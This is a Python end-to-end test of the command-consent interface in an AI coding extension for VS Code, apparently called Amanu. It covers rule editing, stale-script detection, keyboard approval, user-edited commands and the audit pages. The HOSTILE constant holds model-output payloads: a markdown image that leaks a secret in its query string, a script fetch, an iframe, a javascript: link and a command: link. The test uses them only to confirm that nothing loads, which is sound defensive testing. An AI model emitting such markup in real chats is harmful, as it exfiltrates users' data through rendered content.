"""Consent as the user meets it, in a real VS Code: every part of a command line and its sandbox, a rule edited and
tried before it is saved, the same command not asked about again, a script that changes under a question, answers by
keyboard alone, a command that the user changes before it runs, the audit log and the trust page. And hostile words from
the model make no request leave the window."""

import asyncio
import os
from pathlib import Path
from typing import Any

from support.strict_services.http import Say, ToolUse
from support.vscode import IN_VSCODE, SECONDS, answered, asked, command, open_chat, send, service, shoot, workbench

pytestmark = IN_VSCODE

HOSTILE = """Look here.

![x](http://127.0.0.1:{port}/?q=SECRET) <img src="http://127.0.0.1:{port}/img"> [x](command:workbench.action.quit)

<script>fetch("http://127.0.0.1:{port}/script")</script> <iframe src="http://127.0.0.1:{port}/frame"></iframe>

<link rel="stylesheet" href="http://127.0.0.1:{port}/style"> <svg><image href="http://127.0.0.1:{port}/svg"/></svg>

[harmless](http://127.0.0.1:{port}/link) and [x](javascript:fetch(1)) were said."""


def run(line: str) -> ToolUse:
    return ToolUse("run_shell_command", {"command": line})


async def test_consent(window: Path) -> None:
    folder = window / "work"
    (folder / "AGENTS.md").write_text("Use make.\n")
    (folder / "Makefile").write_text("hello:\n\t@echo hello | tee -a said.txt\nbye:\n\t@echo bye >> said.txt\n")
    script = folder / "job.sh"
    script.write_text("echo first >> job.txt\n")
    config = Path(os.environ["AMANU_HOME"]) / "config"
    config.mkdir(parents=True, exist_ok=True)
    (config / "config.toml").write_text('[sandbox]\nwithout = "accept"\n')  # rules for commands count on any machine
    caught: list[str] = []

    async def connected(_: Any, writer: asyncio.StreamWriter) -> None:
        caught.append("a connection")
        writer.close()

    trap = await asyncio.start_server(connected, "127.0.0.1", 0)
    port = trap.sockets[0].getsockname()[1]
    says = [
        Say(text=HOSTILE.format(port=port), calls=[run("ls -la && make hello")]),
        Say(text="Again.", calls=[run("make hello"), run("bash job.sh")]),
        Say(text="By key.", calls=[run("cat Makefile; make bye")]),
        Say(text="To edit.", calls=[run("touch one")]),
        Say(text="And again.", calls=[run("touch one")]),
        Say(text="That was all."),
    ]
    async with trap, service("anthropic", says) as (served, environment), workbench(window, environment) as page:
        page.on("request", lambda request: caught.append(request.url) if f":{port}/" in request.url else None)
        chat = await open_chat(page)
        await send(chat, "Go")

        # what is asked, part by part, and what holds it
        allow = await asked(chat)
        parts = chat.locator(".approval:visible .parts li")
        assert await parts.evaluate_all("all => all.map((each) => each.className)") == ["fine", "asks"]
        assert "make hello" in await parts.nth(1).inner_text()
        await chat.locator(".approval:visible .reasons", has_text="andboxed").wait_for(timeout=SECONDS)
        await shoot(page, "consent-1-asked")

        # the model's words: nothing was loaded, and a link says where it leads
        assert await chat.locator(".answer img, .answer script, .answer iframe, .answer svg, .answer link").count() == 0
        here = f"http://127.0.0.1:{port}"
        links = await chat.locator(".answer a").all_inner_texts()
        assert links == [f"x {here}/?q=SECRET", f"harmless {here}/link"]  # a picture is a link like others

        # the rule that would be saved, edited and tried
        await chat.locator(".approval:visible .more summary").click()
        await chat.locator(".approval:visible select.scope").select_option("session")
        rule = chat.locator(".approval:visible textarea.rule")
        offered = await rule.input_value()
        assert "make" in offered
        await rule.fill(offered.replace("make", "cargo"))
        await chat.locator(".approval:visible .remember.wrong").wait_for(timeout=SECONDS)
        assert await allow.is_disabled()
        await shoot(page, "consent-2-wrong-rule")
        await rule.fill(offered)
        await chat.locator(".approval:visible .remember:not(.wrong) .meaning", has_text="make").wait_for(
            timeout=SECONDS
        )
        await shoot(page, "consent-3-rule")
        await allow.click()

        # the same command is not asked about again; a script that changes between question and yes is
        await chat.locator(".approval:visible .detail", has_text="job.sh").wait_for(timeout=SECONDS)
        async with asyncio.timeout(50):  # the question about the script need not wait for it
            while (folder / "said.txt").read_text() != "hello\nhello\n":
                await asyncio.sleep(0.05)
        allow = await asked(chat)
        script.write_text("echo second >> job.txt\n")
        await allow.click()
        await chat.locator(".approval.again .note", has_text="has changed since you were asked").wait_for(
            timeout=SECONDS
        )
        assert not (folder / "job.txt").exists()
        assert await chat.locator(
            '.tool[aria-label^="Run bash job.sh"] .said'
        ).is_hidden()  # the yes was to another script
        await shoot(page, "consent-4-stale")
        await (await asked(chat)).click()

        # by keyboard alone: what is known stands above, the first answer is chosen
        await chat.locator(".approval:visible .detail", has_text="make bye").wait_for(timeout=SECONDS)
        assert (folder / "job.txt").read_text() == "second\n"
        await asked(chat)
        await chat.locator(".approval:visible .more summary").click()
        await chat.locator(".approval:visible select.scope").select_option("session")
        rule = chat.locator(".approval:visible textarea.rule")
        await rule.fill((await rule.input_value()).replace("make bye", "make"))
        # The earlier question is answered by its own rule already: the new one is not credited with it.
        await chat.locator(".approval:visible .meaning", has_text="none of the earlier questions").wait_for(
            timeout=SECONDS
        )
        await shoot(page, "consent-5-covered")
        await page.keyboard.press("Control+Alt+Enter")
        rows = page.locator(".quick-input-list .monaco-list-row")
        await rows.filter(has_text="make bye").first.wait_for(timeout=SECONDS)
        await rows.filter(has_text="andboxed").first.wait_for(timeout=SECONDS)
        await page.locator('.monaco-list-row.focused[aria-label*="Allow once"]').wait_for(timeout=SECONDS)
        await shoot(page, "consent-6-keyboard")
        await page.keyboard.press("Enter")

        # what the user writes in the place of the model's command runs; what needs more than was asked is asked about
        await chat.locator(".approval:visible .detail", has_text="touch one").wait_for(timeout=SECONDS)
        await asked(chat)
        await chat.locator(".approval:visible button.edit").click()
        field = chat.locator(".approval:visible textarea.command")
        assert await field.input_value() == "touch one"
        await field.fill("touch two &&\ntouch three")
        await shoot(page, "consent-7-edit")
        await field.press("Enter")
        await chat.locator('.tool[aria-label^="Run touch two"]').wait_for(timeout=SECONDS)
        await chat.locator(".answer", has_text="And again").wait_for(timeout=SECONDS)
        assert (folder / "two").exists() and (folder / "three").exists() and not (folder / "one").exists()
        await asked(chat)
        await chat.locator(".approval:visible button.edit").click()
        await field.fill("rm -rf two")
        await field.press("Enter")
        await chat.locator(".approval:visible .note", has_text="as you changed it").wait_for(timeout=SECONDS)
        await chat.locator(".approval:visible .reasons", has_text="The model's was: touch one").wait_for(
            timeout=SECONDS
        )
        assert (folder / "two").exists()
        await shoot(page, "consent-8-edited")
        await asked(chat)
        await chat.locator(".approval:visible button.allow:focus").press("Enter")
        await answered(chat, "That was all")
        assert not (folder / "two").exists()
        assert (folder / "said.txt").read_text() == "hello\nhello\nbye\n"

        # afterwards: who decided and what held it, and the audit log; then what the folder enables
        card = chat.locator('.tool[aria-label^="Run bash job.sh"]')
        await card.locator("summary").first.click()
        await card.locator(".record button", has_text="Audit").click()
        await page.locator(".tab.active", has_text="Amanu Audit").wait_for(timeout=SECONDS)
        await shoot(page, "consent-9-audit")
        await command(page, "Amanu: Review What This Folder Enables")
        await page.locator(".quick-input-titlebar", has_text="Trust work?").wait_for(timeout=SECONDS)
        await page.locator(".tab.active", has_text="Amanu Trust").wait_for(timeout=SECONDS)
        await shoot(page, "consent-10-trust")
        await page.keyboard.press("Escape")
        assert caught == []
        assert not served.refused and not served.lint
